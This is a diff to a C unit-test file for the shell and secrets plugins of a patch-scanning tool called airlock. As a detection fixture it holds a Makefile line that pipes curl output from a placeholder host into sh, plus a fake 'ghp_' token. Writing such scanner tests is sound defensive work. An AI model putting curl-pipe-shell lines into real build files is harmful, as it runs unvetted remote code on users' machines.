@@ -3,8 +3,9 @@
  * through dlopen with a test host table: descriptor fields, the single
  * exported symbol, init/analyze/fini, the host's AIRLOCK_E_LIMIT stopping a
  * scan, a failing host allocator, a short input struct, the parsed-files
- * input path (no patch text), an evidence bound, and the job's commands
- * (AIRLOCK_CAP_COMMANDS: labels, lines, an older host's shorter input).
+ * input (the patch text alone is never parsed by a plugin), an evidence
+ * bound, and the job's commands (AIRLOCK_CAP_COMMANDS: labels, lines).
+ * Inputs are built by the host's own patch model (plugin_view_new).
  */
 #include <dlfcn.h>
 #include <setjmp.h>
@@ -17,6 +18,7 @@
 #include <cmocka.h>
 
 #include "airlock_plugin.h"
+#include "worker/plugin_host/plugin_host.h"
 
 static const char *const s_names[] = {"secrets", "shell", "python", "paths", "ci"};
 
@@ -92,17 +94,24 @@ static void *open_plugin(const char *name, const airlock_plugin_t **d)
     return so;
 }
 
+/* The patch through the host's model (what the plugin host hands over),
+ * then init/analyze/fini of the plugin. */
 static int run_patch(const airlock_plugin_t *d, host_ctx_t *h, const char *patch)
 {
     airlock_host_t host = {sizeof host, AIRLOCK_PLUGIN_ABI_VERSION, h_emit, h_log,
                            h_alloc, h_free, h};
-    airlock_input_t in = {sizeof in, patch, strlen(patch), 0, NULL, 0, NULL};
+    plugin_source_t src = PLUGIN_SOURCE_INIT;
+    plugin_view_t *v = NULL;
     void *state = NULL;
+    src.patch = patch;
+    src.patch_len = strlen(patch);
+    assert_int_equal(plugin_view_new(&v, &src, d->capabilities, NULL), 0);
     int rc = d->init(&host, &state);
-    if (rc != 0)
-        return rc;
-    rc = d->analyze(state, &in);
-    d->fini(state);
+    if (rc == 0) {
+        rc = d->analyze(state, plugin_view_input(v));
+        d->fini(state);
+    }
+    plugin_view_destroy(&v);
     return rc;
 }
 
@@ -122,7 +131,7 @@ static void test_descriptors(void **s)
             assert_null(d->reserved[k]);
         /* nothing but the descriptor is exported */
         assert_null(dlsym(so, "an_plugin_analyze"));
-        assert_null(dlsym(so, "an_patch_walk"));
+        assert_null(dlsym(so, "an_run_input"));
         assert_null(dlsym(so, "shell_scan_command"));
         dlclose(so);
     }
@@ -166,7 +175,7 @@ static void test_host_failures(void **s)
     host_ctx_t h = {.fail_alloc = 1};
     airlock_host_t host = {sizeof host, AIRLOCK_PLUGIN_ABI_VERSION, h_emit, h_log,
                            h_alloc, h_free, &h};
-    airlock_input_t in = {AIRLOCK_INPUT_V1_SIZE - 8, "", 0, 0, NULL, 0, NULL};
+    airlock_input_t in = {sizeof(airlock_input_t) - 8, "", 0, 0, NULL, 0, NULL, 0};
     void *state = NULL;
     void *so = open_plugin("shell", &d);
     (void)s;
@@ -182,7 +191,7 @@ static void test_host_failures(void **s)
     dlclose(so);
 }
 
-/* No patch text: the plugin reads the host's parsed files instead. */
+/* The plugin reads the host's parsed files; patch text alone is not parsed. */
 static void test_files_input(void **s)
 {
     const airlock_plugin_t *d;
@@ -191,10 +200,10 @@ static void test_files_input(void **s)
     static const char line2[] = "\tcurl -s https://x.example/i | sh";
     airlock_line_t lines[2] = {{1, sizeof line1 - 1, line1}, {2, sizeof line2 - 1, line2}};
     airlock_file_t f = {sizeof f, "Makefile", "Makefile", "Makefile", AIRLOCK_MODE_FILE,
-                        AIRLOCK_MODE_FILE, 0, 2, lines, NULL, 0};
+                        AIRLOCK_MODE_FILE, 0, 2, lines, NULL, 0, 0, NULL, 0};
     airlock_host_t host = {sizeof host, AIRLOCK_PLUGIN_ABI_VERSION, h_emit, h_log,
                            h_alloc, h_free, &h};
-    airlock_input_t in = {sizeof in, "", 0, 1, &f, 0, NULL};
+    airlock_input_t in = {sizeof in, "", 0, 1, &f, 0, NULL, 0};
     void *state = NULL;
     void *so = open_plugin("shell", &d);
     (void)s;
@@ -205,6 +214,15 @@ static void test_files_input(void **s)
     assert_string_equal(h.rule[0], "shell.curl_pipe_shell");
     assert_int_equal(h.sev[0], AIRLOCK_SEV_CRITICAL);
     assert_int_equal(h.line[0], 2);
+    /* the same as raw text without the host's files: nothing (no second parser) */
+    static const char text[] = "diff --git a/Makefile b/Makefile\n--- a/Makefile\n+++ b/Makefile\n"
+                               "@@ -1 +1,2 @@\n setup:\n+\tcurl -s https://x.example/i | sh\n";
+    airlock_input_t raw = {sizeof raw, text, sizeof text - 1, 0, NULL, 0, NULL, 0};
+    h.n = 0;
+    assert_int_equal(d->init(&host, &state), 0);
+    assert_int_equal(d->analyze(state, &raw), 0);
+    d->fini(state);
+    assert_int_equal(h.n, 0);
     dlclose(so);
 }
 
@@ -219,7 +237,8 @@ static void test_evidence_bounded(void **s)
     memset(tok, 'a', sizeof tok - 1);
     tok[sizeof tok - 1] = '\0';
     memcpy(tok, "ghp_", 4);
-    snprintf(patch, sizeof patch, "--- a/x\n+++ b/x\n@@ -0,0 +1 @@\n+t=%s9Z\n", tok);
+    snprintf(patch, sizeof patch, "diff --git a/x b/x\nnew file mode 100644\n--- /dev/null\n+++ b/x\n"
+             "@@ -0,0 +1 @@\n+t=%s9Z\n", tok);
     assert_int_equal(run_patch(d, &h, patch), 0);
     assert_int_equal(h.n, 1);
     assert_true(h.evidence_nul_ok);
@@ -228,9 +247,7 @@ static void test_evidence_bounded(void **s)
 }
 
 /* The job's commands: findings named job:run[i] / job:test, line 0 for a
- * one-line command, the line within a multi-line script otherwise; an input
- * from a host older than the commands extension (V1 size) is still scanned
- * for its patch and its (absent) commands are never read. */
+ * one-line command, the line within a multi-line script otherwise. */
 static void test_commands_input(void **s)
 {
     const airlock_plugin_t *d;
@@ -245,7 +262,7 @@ static void test_commands_input(void **s)
     };
     airlock_host_t host = {sizeof host, AIRLOCK_PLUGIN_ABI_VERSION, h_emit, h_log,
                            h_alloc, h_free, &h};
-    airlock_input_t in = {sizeof in, "", 0, 0, NULL, 3, cmds};
+    airlock_input_t in = {sizeof in, "", 0, 0, NULL, 3, cmds, 0};
     void *state = NULL;
     void *so = open_plugin("shell", &d);
     (void)s;
@@ -259,15 +276,8 @@ static void test_commands_input(void **s)
     assert_string_equal(h.rule[1], "shell.reverse_shell");
     assert_string_equal(h.file[1], "job:test");
     assert_int_equal(h.line[1], 3);
-    /* a short input (older host): patch only */
-    h.n = 0;
-    in.struct_size = AIRLOCK_INPUT_V1_SIZE;
-    in.patch = s_aws_patch;
-    in.patch_len = strlen(s_aws_patch);
-    assert_int_equal(d->analyze(state, &in), 0);
-    assert_int_equal(h.n, 0);
     /* a command struct from a different layout is skipped, not misread */
-    in.struct_size = sizeof in;
+    h.n = 0;
     cmds[1].struct_size = 8;
     assert_int_equal(d->analyze(state, &in), 0);
     assert_int_equal(h.n, 1);
@@ -288,7 +298,7 @@ static void test_commands_limit(void **s)
         cmds[i] = (airlock_command_t){sizeof cmds[0], "run", i, a[2], strlen(a[2]), 3, a};
     airlock_host_t host = {sizeof host, AIRLOCK_PLUGIN_ABI_VERSION, h_emit, h_log,
                            h_alloc, h_free, &h};
-    airlock_input_t in = {sizeof in, "", 0, 0, NULL, 4, cmds};
+    airlock_input_t in = {sizeof in, "", 0, 0, NULL, 4, cmds, 0};
     void *state = NULL;
     void *so = open_plugin("shell", &d);
     (void)s;
